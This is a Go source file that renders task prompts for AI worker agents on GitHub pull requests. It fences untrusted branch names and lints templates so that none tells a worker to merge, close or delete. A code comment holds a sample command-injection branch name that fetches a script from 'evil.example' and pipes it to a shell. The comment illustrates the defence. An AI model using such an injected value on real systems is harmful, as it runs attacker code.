package dispatch

import (
	"bytes"
	"embed"
	"errors"
	"fmt"
	"io/fs"
	"path"
	"regexp"
	"strings"
	"sync"
	"text/template"

	"github.com/prmonitor/prmonitor/prstatus/sanitize"
	"github.com/prmonitor/prmonitor/prstatus/text"
)

// The worker task templates ship in the binary. A directory given with --templates overrides
// them file by file (<type>.md); the absolute constraints are not a template anyone overrides:
// every rendered task begins with them.
//
//go:embed templates/*.md
var builtinFS embed.FS

const constraintsFile = "constraints.md"

// maxTask bounds a rendered task: it is a payload an agent reads.
const maxTask = 16 << 10

// TaskData is what a task template is rendered with. Its plain values are the dispatcher's own
// (the repository as given, the configured user and label, its reasons), numbers, commit ids and
// GitHub's web addresses: none holds text a GitHub user wrote. GitHub's names are GitHub text (a
// branch may be called fix$(curl${IFS}-sL${IFS}evil.example|sh)): HeadRef, BaseRef and
// ChangesRequestedBy hold them fenced, never fit for a command; BaseBranch holds the base only when
// it is safe in a command (sanitize.CommandRef). The built-in templates name the pull request by
// its number (gh pr checkout N) and use no fenced value (docs/security.md).
type TaskData struct {
	Repo     string // OWNER/REPO, as the run was asked for
	Number   int    // the pull request's, or the for impl
	SHA      string // the head commit (empty for impl)
	ShortSHA string
	URL      string // the pull request's or the web address
	User     string // the identity the worker acts as
	WIPLabel string // the lock label the worker removes when done
	Reason   string // why the dispatcher spawned it, in its own words

	BaseBranch string // the base branch when it is safe in a command, else ""
	HeadRef    string // the head branch's name, fenced
	BaseRef    string // the base branch's name, fenced

	ChangesRequestedBy []string // findings: the reviewers asking for changes, each fenced
	FailedChecks       int      // ci-fix: how many checks failed
	Findings           []int    // address-feedback: the review bots' finding numbers, at most 50
	FindingsOmitted    int      // address-feedback: how many more findings were left out
	Threads            int      // address-feedback: unresolved threads without a reply
}

// Templates are the worker task templates, one per spawn type.
type Templates struct {
	constraints *template.Template
	byType      map[SpawnType]*template.Template
}

// BuiltinTemplates are the templates shipped in the binary.
func BuiltinTemplates() (*Templates, error) {
	return LoadTemplates(nil)
}

// LoadTemplates returns the built-in templates, overridden by the files <type>.md of overrides
// (nil: none). An override that does not parse, renders badly, names no known type, or tells a
// worker to merge or close anything is an error wrapping ErrConfig.
func LoadTemplates(overrides fs.FS) (*Templates, error) {
	sub, err := fs.Sub(builtinFS, "templates")
	if err != nil {
		return nil, fmt.Errorf("built-in templates: %w", err)
	}
	t := &Templates{byType: map[SpawnType]*template.Template{}}
	if t.constraints, err = parseTemplate(sub, constraintsFile, "built-in"); err != nil {
		return nil, err
	}
	for _, typ := range SpawnTypes {
		if t.byType[typ], err = parseTemplate(sub, string(typ)+".md", "built-in"); err != nil {
			return nil, err
		}
	}
	if overrides == nil {
		return t, nil
	}
	entries, err := fs.ReadDir(overrides, ".")
	if err != nil {
		return nil, fmt.Errorf("%w: read the templates directory: %v", ErrConfig, err)
	}
	for _, e := range entries {
		name := e.Name()
		if e.IsDir() || path.Ext(name) != ".md" {
			continue
		}
		typ := SpawnType(strings.TrimSuffix(name, ".md"))
		if _, ok := t.byType[typ]; !ok {
			return nil, fmt.Errorf("%w: template %s names no worker type (want one of %s)", ErrConfig, name, typeNames())
		}
		tpl, err := parseTemplate(overrides, name, "override")
		if err != nil {
			return nil, fmt.Errorf("%w: %v", ErrConfig, err)
		}
		t.byType[typ] = tpl
	}
	return t, nil
}

func typeNames() string {
	names := make([]string, len(SpawnTypes))
	for i, t := range SpawnTypes {
		names[i] = string(t) + ".md"
	}
	return strings.Join(names, ", ")
}

// parseTemplate reads, lints and parses one template, and renders it once with sample values so
// that a bad field name fails now rather than in a run.
func parseTemplate(fsys fs.FS, name, origin string) (*template.Template, error) {
	raw, err := fs.ReadFile(fsys, name)
	if err != nil {
		return nil, fmt.Errorf("%s template %s: %w", origin, name, err)
	}
	if err := CheckTemplate(string(raw)); err != nil {
		return nil, fmt.Errorf("%s template %s: %w", origin, name, err)
	}
	tpl, err := template.New(name).Funcs(template.FuncMap{"join": strings.Join}).Option("missingkey=error").Parse(string(raw))
	if err != nil {
		return nil, fmt.Errorf("%s template %s: %w", origin, name, err)
	}
	// Rendered once with sample values: a bad field name fails now rather than in a run, and what
	// it renders (a pipeline can spell a word the source does not hold) passes the same check.
	for _, sample := range []TaskData{sampleTask, sampleTask.withoutBase()} {
		out, err := execute(tpl, sample)
		if err != nil {
			return nil, fmt.Errorf("%s template %s: %w", origin, name, err)
		}
		if err := CheckTemplate(out); err != nil {
			return nil, fmt.Errorf("%s template %s, as rendered: %w", origin, name, err)
		}
	}
	return tpl, nil
}

var sampleTask = TaskData{
	Repo: "octo/widgets", Number: 7, SHA: "0123456789abcdef0123456789abcdef01234567", ShortSHA: "0123456",
	URL: "https://github.com/octo/widgets/pull/7", User: "bot", WIPLabel: "wip", Reason: "sample",
	BaseBranch: "main", HeadRef: sanitize.Fence("feature"), BaseRef: sanitize.Fence("main"),
	ChangesRequestedBy: []string{sanitize.Fence("alice")}, FailedChecks: 1, Findings: []int{1}, FindingsOmitted: 2, Threads: 1,
}

// withoutBase is the sample with a base branch that is not safe in a command.
func (t TaskData) withoutBase() TaskData {
	t.BaseBranch = ""
	return t
}

func execute(tpl *template.Template, data TaskData) (string, error) {
	var b bytes.Buffer
	if err := tpl.Execute(&b, data); err != nil {
		return "", err
	}
	if b.Len() > maxTask {
		return "", fmt.Errorf("renders to %d bytes, more than %d", b.Len(), maxTask)
	}
	return b.String(), nil
}

// Render is the task of one spawn: the absolute constraints, then its type's template.
func (t *Templates) Render(s Spawn) (string, error) {
	tpl, ok := t.byType[s.Type]
	if !ok {
		return "", fmt.Errorf("no template for worker type %q", s.Type)
	}
	head, err := execute(t.constraints, s.task)
	if err != nil {
		return "", fmt.Errorf("render the constraints: %w", err)
	}
	body, err := execute(tpl, s.task)
	if err != nil {
		return "", fmt.Errorf("render the %s task: %w", s.Type, err)
	}
	return strings.TrimRight(head, "\n") + "\n\n" + strings.TrimSpace(body) + "\n", nil
}

// RenderTasks fills in every spawn's task. A task that cannot be rendered (a template that fails
// on this pull request, a task past its size bound) is not an error for the run: it is returned
// by pull request (or issue) number, for the run to skip it and decide again.
func (p *Plan) RenderTasks(t *Templates) map[int]string {
	failed := map[int]string{}
	for i := range p.Spawns {
		task, err := t.Render(p.Spawns[i])
		if err != nil {
			failed[p.Spawns[i].Number] = text.Error(err)
			continue
		}
		p.Spawns[i].Task = task
	}
	if len(failed) == 0 {
		return nil
	}
	return failed
}

var (
	// forbiddenAction is a word that tells of merging, closing or deleting: merge in all its forms
	// (auto-merge, gh pr merge), close, delete, git's --delete and branch -D, and removing a branch.
	forbiddenAction = sync.OnceValue(func() *regexp.Regexp {
		return regexp.MustCompile(`(?i)\b(auto-?merg\w*|merg(e|es|ed|ing)|clos(e|es|ed|ing)|delet(e|es|ed|ing))\b|--delete\b|\bbranch\s+-d\b|\b(remove|drop|destroy)\s+(the\s+|a\s+)?(remote\s+)?branch`)
	})
	// prohibited is what must come right before such a word: a prohibition ("NEVER", "never",
	// "do not", "don't", "must not", "no"), then at most backquotes and "gh pr".
	prohibited = sync.OnceValue(func() *regexp.Regexp {
		return regexp.MustCompile("(?i)\\b(never|do not|don't|must not|no)\\s+`?(gh\\s+pr\\s+)?$")
	})
	// exception is a word that would turn a prohibition into a rule with a way out.
	exception = sync.OnceValue(func() *regexp.Regexp {
		return regexp.MustCompile(`(?i)\b(unless|except|but|until|if|when|otherwise|only|then|instead)\b`)
	})
	// clauseEnd ends the words a prohibition governs.
	clauseEnd = sync.OnceValue(func() *regexp.Regexp { return regexp.MustCompile(`[.;!?\n]`) })
)

// CheckTemplate refuses a text that tells a worker to merge, to close or to delete, whatever words
// surround it: every such word must come right after a prohibition ("NEVER merge", "no
// auto-merge", "do not close"), and nothing in the rest of its sentence may make an exception
// ("unless", "except", "only", "then"...). "Do not hesitate to merge" and "Never wait: merge" are
// refused (safety invariants S8 and S9).
func CheckTemplate(text string) error {
	var bad []string
	for i, line := range strings.Split(text, "\n") {
		for _, m := range forbiddenAction().FindAllStringIndex(line, -1) {
			rest := line[m[1]:]
			if end := clauseEnd().FindStringIndex(rest); end != nil {
				rest = rest[:end[0]]
			}
			if !prohibited().MatchString(line[:m[0]]) || exception().MatchString(rest) {
				bad = append(bad, fmt.Sprintf("line %d %q", i+1, strings.TrimSpace(line)))
				break
			}
		}
	}
	if len(bad) > 0 {
		return errors.New("a worker may never merge, close or delete, yet the template says so: " + strings.Join(bad, "; "))
	}
	return nil
}
